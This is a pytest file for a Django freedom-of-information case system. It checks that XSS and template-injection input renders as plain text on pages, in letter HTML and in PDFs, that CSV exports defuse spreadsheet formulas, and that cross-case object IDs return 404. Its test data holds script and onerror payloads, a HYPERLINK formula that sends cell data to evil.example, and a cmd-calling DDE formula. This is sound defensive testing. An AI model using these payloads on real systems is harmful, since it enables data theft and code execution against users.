"""Attacks refused: each test here fails if its protection is removed.

* Script, HTML and template syntax typed into any field show as text on every page, in the
  letter's HTML and in its PDF (autoescaping; letters build their HTML from escaped text).
* CSV cells that a spreadsheet would run as formulas get a leading apostrophe.
* An object's ID under another case's reference is 404, as is any ID for someone who may
  not see its case.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re

import pytest
from django.test import Client
from django.urls import reverse

from exemptions.models import Exemption, ExemptionCitation
from exemptions.validation import FactorData, PitData
from foi_cases import letters, workflow
from foi_cases.demo import seed_citation
from foi_cases.models import DisclosureLogEntry, Letter, Requester
from tests import factories
from tests.letter_helpers import complete_letter_settings, pdf_text

PAYLOAD = (
    "<script>alert(\"xss\")</script><img src=x onerror=alert(1)>{{ request.user }}{% now 'Y' %}"
)
RAW_MARKUP = ('<script>alert("xss")', "<img src=x onerror")
ESCAPED = "&lt;script&gt;alert("


def tagged(field: str) -> str:
    return f"{field}:{PAYLOAD}"


@pytest.fixture
def hostile_case(officer, reviewer, manager, settings, tmp_path):
    """A case whose every user-entered field carries the payload, its decisions approved."""
    settings.MEDIA_ROOT = tmp_path
    complete_letter_settings()
    factories.catalogue_exemption("FOIA-s31")
    case = factories.case_in_progress(
        officer,
        questions=(tagged("question1"), tagged("question2")),
        title=tagged("title")[:200],
        request_text=tagged("request"),
        requester=Requester.objects.create(name=tagged("requester")[:200], email="x@example.com"),
    )
    q1, q2 = case.questions.order_by("number")
    workflow.record_answer(
        q1,
        actor=officer,
        held_status="held",
        outcome="disclosed",
        answer_text=tagged("answer"),
    )
    workflow.record_answer(q2, actor=officer, held_status="held", outcome="withheld_in_full")
    workflow.apply_exemption(
        case.questions.get(number=2),
        actor=officer,
        exemption=Exemption.objects.get(code="FOIA-s31"),
        data=seed_citation(limbs=("s31(1)(a)",), likelihood="would", reasoning=tagged("reasoning")),
        pit=PitData(
            as_at=case.received_at.date(),
            conclusion="maintain",
            summary=tagged("pit-summary"),
            factors=(
                FactorData(side="disclosure", text=tagged("factor-for"), weight=2),
                FactorData(side="maintain", text=tagged("factor-against"), weight=4),
            ),
        ),
    )
    workflow.submit_for_review(case, actor=officer)
    workflow.approve_decisions(case, actor=reviewer)
    case.refresh_from_db()
    letter = workflow.compose_letter(case, actor=officer, kind=Letter.Kind.FINAL_RESPONSE)
    letter = workflow.edit_letter(
        letter,
        actor=officer,
        body=letter.body + "\n\n" + tagged("letter-text"),
        dated=letter.dated,
        seen_hash=letter.content_hash,
    )
    published = factories.CaseFactory(status="responded", title=tagged("other-title")[:200])
    entry = DisclosureLogEntry.objects.create(
        case=published,
        title=tagged("log-title")[:200],
        request_text=tagged("log-request"),
        response_text=tagged("log-response"),
        disclosed_on=dt.date(2026, 4, 1),
        status=DisclosureLogEntry.Status.PUBLISHED,
        prepared_by=manager,
    )
    return case, letter, entry


def assert_inert(content: str, where: str, fields: tuple[str, ...] = ()) -> None:
    for markup in RAW_MARKUP:
        assert markup not in content, f"live markup from user text in {where}"
    shown = html.unescape(content)
    for field in fields:
        # Shown in full, as typed: escaped, and the template syntax not evaluated.
        assert tagged(field) in shown, f"{field} is not shown as typed in {where}"


def test_script_in_every_field_renders_inert_on_every_page(hostile_case, manager, officer):
    case, letter, entry = hostile_case
    ref = case.reference
    citation = ExemptionCitation.objects.get(question__case=case)
    pages = {
        reverse("case_list"): ("title",),
        reverse("case_detail", args=[ref]): ("title", "request", "question1", "requester"),
        reverse("exemption_decisions", args=[ref]): (),
        reverse("exemption_question", args=[ref, 1]): ("question1", "answer"),
        reverse("exemption_question", args=[ref, 2]): ("reasoning",),
        reverse("exemption_citation_edit", args=[ref, citation.pk]): (
            "reasoning",
            "factor-for",
            "pit-summary",
        ),
        reverse("exemption_check", args=[ref]): ("answer",),
        reverse("decision_review", args=[ref]): (),
        reverse("decision_review_question", args=[ref, 1]): ("question1", "answer"),
        reverse("decision_review_question", args=[ref, 2]): ("reasoning", "factor-for"),
        reverse("decision_review_decide", args=[ref]): (),
        reverse("letter_list", args=[ref]): (),
        reverse("letter_detail", args=[ref, letter.pk]): ("letter-text",),
        reverse("letter_preview", args=[ref, letter.pk]): ("letter-text", "answer"),
        reverse("case_after_response", args=[ref]): ("title",),
        reverse("dashboard"): (),
        reverse("notifications"): (),
        reverse("disclosure_log"): ("log-title",),
        reverse("disclosure_log_entry", args=[entry.pk]): ("log-title", "log-response"),
        reverse("disclosure_entries"): ("log-title",),
        reverse("disclosure_entry", args=[entry.pk]): ("log-request", "log-response"),
    }
    client = Client()
    client.force_login(manager)
    for url, fields in pages.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert_inert(response.content.decode(), url, fields)


def test_script_in_user_text_is_text_in_the_letter_html_and_pdf(hostile_case):
    _, letter, _ = hostile_case
    page = letters.render_letter_html(letter)
    assert_inert(page, "the letter HTML", ("answer", "letter-text", "reasoning"))

    text = pdf_text(letters.render_letter_pdf(letter))
    # In the PDF the payload is printed as characters; as markup it would have vanished.
    for field in ("answer", "letter-text"):
        assert tagged(field) in text, f"{field} is not printed as typed in the PDF"


def test_script_in_the_disclosure_log_is_text_in_its_pdf(hostile_case):
    _, _, entry = hostile_case
    response = Client().get(reverse("disclosure_log_entry_pdf", args=[entry.pk]))
    assert response.status_code == 200
    text = pdf_text(
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    assert tagged("log-response") in text


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(A1)")


def cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_exports_neutralise_formulas(formula, officer, manager):
    case = factories.case_in_progress(officer, title=formula)
    DisclosureLogEntry.objects.create(
        case=case,
        title=formula,
        request_text=formula,
        response_text=formula,
        disclosed_on=dt.date(2026, 4, 1),
        status=DisclosureLogEntry.Status.PUBLISHED,
        prepared_by=manager,
    )
    client = Client()
    client.force_login(manager)
    for url in (reverse("case_list_export") + "?tab=all", reverse("disclosure_log_csv")):
        exported = cells(client.get(url))
        assert "'" + formula in exported, url
        assert not [c for c in exported if c.startswith(("=", "+", "@", "\t", "\r"))], url


def page_without(response, reference: str) -> str:
    """The page with the reference and the per-request CSRF token taken out."""
    content = response.content.decode().replace(reference, "")
    return re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", content)


def test_object_ids_under_another_case_are_not_found(officer, other_officer, manager, tmp_path):
    """An officer's own case reference with another case's letter or citation ID: 404."""
    complete_letter_settings()
    factories.catalogue_exemption("FOIA-s31")
    mine = factories.case_in_progress(officer)
    theirs = factories.case_in_progress(other_officer, restricted=True)
    their_letter = workflow.compose_letter(theirs, actor=other_officer, kind="acknowledgement")
    workflow.record_answer(
        theirs.questions.get(), actor=other_officer, held_status="held", outcome="withheld_in_full"
    )
    citation = factories.ExemptionCitationFactory(
        question=theirs.questions.get(),
        exemption=Exemption.objects.get(code="FOIA-s31"),
        created_by=other_officer,
    )
    client = Client(raise_request_exception=False)
    client.force_login(officer)
    probes = [
        reverse("letter_detail", args=[mine.reference, their_letter.pk]),
        reverse("letter_preview", args=[mine.reference, their_letter.pk]),
        reverse("letter_download", args=[mine.reference, their_letter.pk]),
        reverse("exemption_citation_edit", args=[mine.reference, citation.pk]),
        reverse("letter_detail", args=[theirs.reference, their_letter.pk]),
        reverse("case_detail", args=[theirs.reference]),
        reverse("case_detail", args=["NO-SUCH-CASE"]),
    ]
    for url in probes:
        assert client.get(url).status_code == 404, url
    for url in (
        reverse("letter_approve", args=[mine.reference, their_letter.pk]),
        reverse("exemption_citation_remove", args=[mine.reference, citation.pk]),
    ):
        assert client.post(url).status_code == 404, url
    # The same 404 page for a case that exists but is hidden and one that does not.
    hidden = client.get(reverse("case_detail", args=[theirs.reference]))
    missing = client.get(reverse("case_detail", args=["NO-SUCH-CASE"]))
    assert page_without(hidden, theirs.reference) == page_without(missing, "NO-SUCH-CASE")
    assert ExemptionCitation.objects.filter(pk=citation.pk).exists()
    assert Letter.objects.get(pk=their_letter.pk).status == Letter.Status.DRAFT
